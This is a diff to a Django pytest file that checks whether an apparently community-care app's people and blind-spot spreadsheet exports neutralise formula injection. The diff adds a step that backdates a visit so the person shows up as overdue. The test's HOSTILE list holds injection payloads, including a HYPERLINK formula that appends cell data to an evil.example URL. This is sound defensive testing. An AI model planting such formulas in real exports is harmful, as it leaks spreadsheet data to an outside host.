@@ -2,15 +2,18 @@
 
 from __future__ import annotations
 
+import datetime as dt
 import io
 import zipfile
 
 import pytest
 from django.urls import reverse
+from django.utils import timezone
 from python_calamine import CalamineWorkbook
 
 from nuanxin.core.xlsx import LedgerSheet, neutralise, write_ledger
 from nuanxin.registry.services import person_update
+from nuanxin.visits.models import VisitSchedule
 from tests.conftest import HEMEI
 
 HOSTILE = ['=HYPERLINK("http://evil.example/"&A1,"点击")', "=1+1", "+86 123", "-2+3", "@SUM(A1)"]
@@ -47,6 +50,10 @@ def _hostile_name(person, worker):
 
 def test_it_neutralises_the_people_and_blind_spot_exports(client, community_worker, ms_cai):
     _hostile_name(ms_cai, community_worker)
+    # A running month lists only the late: she was due ten days ago.
+    VisitSchedule.objects.filter(person=ms_cai).update(
+        due_on=timezone.localdate() - dt.timedelta(days=10)
+    )
     client.force_login(community_worker)
     people = b"".join(client.get(reverse("ledgers:people_export")).streaming_content)
     blind = client.get(reverse("visits:blind_spots"), {"region": HEMEI, "export": "xlsx"})
